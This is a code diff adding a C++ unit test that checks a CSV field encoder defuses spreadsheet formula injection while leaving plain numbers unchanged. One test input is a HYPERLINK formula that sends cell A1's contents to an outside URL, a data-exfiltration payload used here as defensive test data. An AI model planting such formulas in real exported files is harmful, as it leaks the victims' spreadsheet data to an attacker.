@@ -24,5 +24,21 @@ TEST(CsvTest, QuotesOnlyWhenNeeded) {
   EXPECT_EQ(CsvField("a\"b"), "\"a\"\"b\"");
 }
 
+TEST(CsvTest, NothingIsReadAsAFormula) {
+  EXPECT_EQ(CsvField("=HYPERLINK(\"http://x?d=\"&A1,\"点此\")"),
+            "\"'=HYPERLINK(\"\"http://x?d=\"\"&A1,\"\"点此\"\")\"");
+  EXPECT_EQ(CsvField("+1+2"), "'+1+2");
+  EXPECT_EQ(CsvField("-2+3"), "'-2+3");
+  EXPECT_EQ(CsvField("@SUM(A1)"), "'@SUM(A1)");
+  EXPECT_EQ(CsvField("\tx"), "'\tx");
+  EXPECT_EQ(CsvField("\rx"), "\"'\rx\"");
+  // Numbers stay numbers.
+  EXPECT_EQ(CsvField("-12"), "-12");
+  EXPECT_EQ(CsvField("+3.5"), "+3.5");
+  EXPECT_EQ(CsvField("-7.25%"), "-7.25%");
+  EXPECT_EQ(CsvField("-"), "'-");
+  EXPECT_EQ(CsvField("项目=1"), "项目=1");
+}
+
 }  // namespace
 }  // namespace saima
